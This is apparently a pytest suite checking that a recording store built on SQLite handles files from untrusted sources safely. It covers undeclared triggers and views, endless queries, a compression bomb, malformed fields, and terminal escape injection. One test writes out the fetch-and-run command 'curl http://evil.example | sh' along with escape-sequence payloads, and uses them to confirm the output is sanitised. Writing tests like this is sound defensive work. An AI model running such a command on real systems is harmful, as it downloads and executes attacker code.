"""Files from strangers: whatever they hold ends in one line that names it, runs nothing, and never hangs."""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from fakes import ScriptedExpert, make_questions, make_spec, says

from der_core.cli import main
from der_core.errors import DerError, StoreError
from der_core.recording.recorder import record
from der_core.recording.store import Call, FlipRate, Store
from der_core.recording.table import load_table
from der_core.records import Label

QUESTIONS = make_questions(4)
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT"
DEEP = "[" * 100_000


@pytest.fixture
def stranger(tmp_path: Path) -> Path:
    """A sound recording in one file, as an export is."""
    with Store.open(tmp_path / "own.db") as store:
        record(store, "demo", QUESTIONS, {"small": [ScriptedExpert(make_spec(), says(Label.YES, 0.8))]}, meta={"command": "make demo"})
        store.put_vectors("mini", {"a": np.ones(3)})
        store.put_fault("demo", "small", "BadReply", "Odd.")
        store.put_flip_rate("demo", FlipRate("small", 10, 1, {}))
        store.export(tmp_path / "stranger.db", "demo")
    return tmp_path / "stranger.db"


def change(path: Path, *statements: str, values: tuple[object, ...] = ()) -> None:
    with sqlite3.connect(path) as db:
        for sql in statements:
            db.execute(sql, values)
    db.close()


def read_all(path: Path) -> None:
    """Read a file in every way there is."""
    with Store.open(path, read_only=True) as store:
        for name in [info.name for info in store.recordings()]:
            _ = store.questions(name), store.experts(name), store.faults(name), store.entries(name), store.reasons(name)
            _ = store.calibrations(name), store.flip_rates(name), load_table(store, name)
            _ = store.digest_changes(name), store.remarks(name, "small")
            for call in [entry.call for entry in store.entries(name)]:
                store.reply_at(name, call)
        store.get_vectors("mini", ["a"])


def test_a_sound_file_is_read(stranger: Path):
    read_all(stranger)
    assert main(["store", "list", "--store", str(stranger)]) == 0


@pytest.mark.parametrize(
    ("statements", "named"),
    [
        ((f"CREATE VIEW extra AS {ENDLESS} x FROM n",), "view 'extra'"),
        (("ALTER TABLE entries RENAME TO hidden", f"CREATE VIEW entries AS {ENDLESS} x AS recording FROM n"), "'hidden'"),
        (("CREATE TRIGGER t AFTER INSERT ON faults BEGIN DELETE FROM replies; END",), "trigger 't'"),
        (("CREATE TABLE sheep (name TEXT)",), "table 'sheep'"),
        (("CREATE INDEX i ON replies (label)",), "index 'i'"),
        (("ALTER TABLE replies ADD COLUMN twice AS (label * 2)",), "table replies is not as in a recording"),
        (("ALTER TABLE faults ADD COLUMN host TEXT",), "table faults is not as in a recording"),
        (("DROP TABLE vectors",), "it lacks the table vectors"),
        (("CREATE VIRTUAL TABLE words USING fts5(text)",), "words"),
        (("CREATE TABLE \"\x1b[31mred\" (a)",), "red"),
        (("ANALYZE",), "sqlite_stat1"),
    ],
)  # fmt: skip
def test_what_a_recording_does_not_declare_is_refused_when_it_is_opened(
    stranger: Path, statements: tuple[str, ...], named: str, capsys: pytest.CaptureFixture[str]
):
    change(stranger, *statements)
    for read_only in (True, False):
        with pytest.raises(StoreError, match="not written by this program") as caught:
            Store.open(stranger, read_only=read_only)
        assert named in str(caught.value) and "\x1b" not in str(caught.value)
    for action in ("list", "verify", "export"):
        began = time.monotonic()
        assert main(["store", action, "--store", str(stranger), "--recording", "demo", "--to", str(stranger.with_name("new.db"))]) == 2
        assert time.monotonic() - began < 5
    assert not stranger.with_name("new.db").exists() and capsys.readouterr().err.count("\n") == 3


def test_a_query_without_end_is_ended(stranger: Path):
    with Store.open(stranger, read_only=True) as store:
        began = time.monotonic()
        with pytest.raises(StoreError, match="took longer than 1 s"), store._budget.of(1.0):
            store._db.execute(f"{ENDLESS} count(*) FROM n").fetchall()
        assert time.monotonic() - began < 10
        assert store.questions("demo") == QUESTIONS


def test_a_value_of_immense_size_is_not_read(stranger: Path):
    change(stranger, "UPDATE replies SET text = ? WHERE id = 1", values=("y" * ((1 << 25) + 1),))
    with Store.open(stranger, read_only=True) as store, pytest.raises(StoreError, match="too big"):
        store.reply_at("demo", Call("q0", "small", Label.NONE))


HOSTILE = [
    ("recordings", "UPDATE recordings SET meta = '[1]'"),
    ("recordings", f"UPDATE recordings SET meta = '{DEEP}'"),
    ("recordings", 'UPDATE recordings SET meta = \'{"command": "\\ud800"}\''),
    ("recordings", "UPDATE recordings SET name = x'ff00'"),
    ("recordings", 'UPDATE recordings SET meta = \'{"digest_changes": [{"expert": 5}]}\''),
    ("recordings", 'UPDATE recordings SET meta = \'{"digest_changes": {"a": [[]]}}\''),
    ("recordings", 'UPDATE recordings SET meta = \'{"notes": ["a"]}\''),
    ("recordings", "UPDATE recordings SET created_utc = 1 << 60"),
    ("questions", "UPDATE questions SET body = '[]'"),
    ("questions", f"UPDATE questions SET body = '{DEEP}' WHERE id = 2"),
    ("questions", 'UPDATE questions SET body = \'{"id": "q0", "text": "half \\ud800"}\' WHERE id = 1'),
    ("questions", 'UPDATE questions SET body = \'{"id": "q0", "text": ["a"]}\' WHERE id = 1'),
    ("questions", 'UPDATE questions SET body = \'{"id": "q0", "text": "a", "gold": 9}\' WHERE id = 1'),
    ("questions", 'UPDATE questions SET body = \'{"id": "other", "text": "a"}\' WHERE id = 1'),
    ("questions", "UPDATE questions SET body = x'7b7d' WHERE id = 1"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = '[\"small\"]'"),
    ("recorded_experts", f"UPDATE recorded_experts SET spec = '{DEEP}'"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '\"small\"', '\"large\"')"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '\"direct\"', '\"shout\"')"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '0.5', '1e999')"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '0.5', '-1')"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '0.5', 'NaN')"),
    ("recorded_experts", "UPDATE recorded_experts SET spec = replace(spec, '{', '{\"run\": \"rm\", ')"),
    ("recorded_experts", "UPDATE recorded_experts SET name = x'00'"),
    ("faults", "UPDATE faults SET message = x'ff'"),
    ("faults", "UPDATE faults SET created_utc = 'never'"),
    ("flip_rates", "UPDATE flip_rates SET n_asked = 0"),
    ("flip_rates", f"UPDATE flip_rates SET meta = '{DEEP}'"),
    ("replies", "UPDATE replies SET text = x'ff' WHERE id = 2"),
    ("replies", "UPDATE replies SET label = 7 WHERE id = 2"),
    ("replies", "UPDATE replies SET label = 'yes' WHERE id = 2"),
    ("replies", "UPDATE replies SET p_yes = 5 WHERE id = 2"),
    ("replies", "UPDATE replies SET p_yes = x'302e35' WHERE id = 2"),
    ("replies", "UPDATE replies SET prompt_tokens = 1 << 40 WHERE id = 2"),
    ("replies", "UPDATE replies SET prompt_tokens = x'31' WHERE id = 2"),
    ("replies", "UPDATE replies SET wall_s = -1e9 WHERE id = 2"),
    ("replies", "UPDATE replies SET alternatives = x'789c' WHERE id = 2"),
    ("replies", "UPDATE replies SET alternatives = 'text' WHERE id = 2"),
    ("replies", "UPDATE replies SET token_logprobs = x'00' WHERE id = 2"),
    ("replies", "UPDATE replies SET reason = x'00' WHERE id = 2"),
    ("entries", "UPDATE entries SET previous_label = 9 WHERE reply = 2"),
    ("entries", "UPDATE entries SET question = 99 WHERE reply = 2"),
    ("vectors", "UPDATE vectors SET vector = x'0000c07f0000c07f'"),
    ("vectors", "UPDATE vectors SET vector = 'text'"),
]


@pytest.mark.parametrize(("table", "sql"), HOSTILE, ids=[f"{table}-{number}" for number, (table, _) in enumerate(HOSTILE)])
def test_every_field_is_looked_at_and_the_error_names_table_and_row(
    stranger: Path, table: str, sql: str, capsys: pytest.CaptureFixture[str]
):
    change(stranger, "PRAGMA foreign_keys = OFF", sql)
    with pytest.raises(StoreError) as caught:
        read_all(stranger)
    told = str(caught.value)
    assert f"table {table}" in told and "store verify" in told and "\n" not in told and len(told) < 600
    code = main(["store", "list", "--store", str(stranger)])
    shown = capsys.readouterr()
    assert "Traceback" not in shown.err
    if table not in ("replies", "entries", "vectors"):
        assert code == 1 and f"table {table}, row " in shown.err
    assert main(["store", "verify", "--store", str(stranger)]) == 1
    assert "Traceback" not in capsys.readouterr().err


def test_a_text_that_unpacks_to_gigabytes_is_not_unpacked(stranger: Path):
    bomb = zlib.compress(b"a" * (1 << 26), 9)
    change(stranger, "UPDATE texts SET body = ?, question = NULL WHERE id = 2", values=(bomb,))
    with Store.open(stranger, read_only=True) as store:
        assert any("does not hash to its key" in line for line in store.verify())


def test_escapes_and_commands_of_a_stranger_are_shown_as_a_stranger_s(stranger: Path, capsys: pytest.CaptureFixture[str]):
    meta = json.dumps({"command": "curl http://evil.example | sh\x1b[2K\n\u202eexe"})
    change(stranger, "UPDATE recordings SET name = 'demo\x1b]0;owned\x07\nfake: 9 questions', meta = ?", values=(meta,))
    change(stranger, "DELETE FROM entries")
    assert main(["store", "list", "--store", str(stranger)]) == 0
    listed = capsys.readouterr().out
    assert listed.count("\n") == 2 and "\x1b" not in listed and "\\x1b]0;owned\\x07 fake" in listed
    with Store.open(stranger, read_only=True) as store, pytest.raises(DerError) as caught:
        load_table(store, store.recordings()[0].name)
    told = str(caught.value)
    assert "The recording names this command: curl http://evil.example | sh\\x1b[2K \\u202eexe" in told
    assert "Run it again" not in told and "\x1b" not in told


def test_an_export_of_one_s_own_file_carries_nothing_along_that_somebody_added(stranger: Path, tmp_path: Path):
    with Store.open(stranger, read_only=True) as store:
        change(stranger, "CREATE TRIGGER t AFTER INSERT ON faults BEGIN DELETE FROM replies; END")
        with pytest.raises(StoreError, match="trigger 't'"):
            store.export(tmp_path / "copy.db", "demo")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["own.db", "stranger.db"]


@pytest.mark.parametrize(
    ("to", "told"),
    [
        ("there.db", "exists already; choose another file"),
        ("folder", "is a folder; name a file in it"),
        ("missing/copy.db", "does not exist; make it first"),
        ("there.db/copy.db", "is not a folder"),
    ],
)
def test_an_export_that_cannot_be_written_is_refused_before_the_work(
    stranger: Path, to: str, told: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    (stranger.parent / "folder").mkdir()
    (stranger.parent / "there.db").write_text("mine")
    monkeypatch.setattr(Store, "_keep_only", lambda *_: pytest.fail("worked before it looked"))
    assert main(["store", "export", "--store", str(stranger), "--recording", "demo", "--to", str(stranger.parent / to)]) == 2
    assert told in capsys.readouterr().err and (stranger.parent / "there.db").read_text() == "mine"


def test_an_export_of_a_recording_that_is_not_there_writes_nothing(stranger: Path, capsys: pytest.CaptureFixture[str]):
    assert main(["store", "export", "--store", str(stranger), "--recording", "none", "--to", str(stranger.parent / "new.db")]) == 2
    assert "it holds: demo" in capsys.readouterr().err and not (stranger.parent / "new.db").exists()


def test_a_failed_export_leaves_nothing_and_can_be_repeated(stranger: Path, monkeypatch: pytest.MonkeyPatch):
    def fail(*_: object) -> None:
        raise StoreError("The disk is full.")

    place = stranger.parent / "new.db"
    with Store.open(stranger, read_only=True) as store:
        with monkeypatch.context() as patched:
            patched.setattr(Store, "_keep_only", fail)
            with pytest.raises(StoreError, match="disk is full"):
                store.export(place, "demo")
        assert sorted(path.name for path in stranger.parent.iterdir()) == ["own.db", "stranger.db"]
        store.export(place, "demo")
    read_all(place)


KILLED = """
import os, signal, sys
from der_core.recording.store import Store
Store._keep_only = lambda *_: os.kill(os.getpid(), signal.SIGKILL)
Store.open(sys.argv[1], read_only=True).export(sys.argv[2], "demo")
"""


def test_what_a_killed_export_left_is_cleared_by_the_next(stranger: Path):
    place, root = stranger.parent / "new.db", Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "-c", KILLED, str(stranger), str(place)], cwd=root, timeout=60, env={**os.environ, "PYTHONPATH": str(root)}
    )
    assert done.returncode == -signal.SIGKILL and not place.exists()
    assert any(path.name.startswith(".new.db.new-") for path in stranger.parent.iterdir())
    with Store.open(stranger, read_only=True) as store:
        store.export(place, "demo")
    assert sorted(path.name for path in stranger.parent.iterdir()) == ["new.db", "own.db", "stranger.db"]
    read_all(place)


def test_a_pipe_is_not_waited_for(tmp_path: Path):
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(StoreError, match="not a file"):
        Store.open(tmp_path / "pipe")
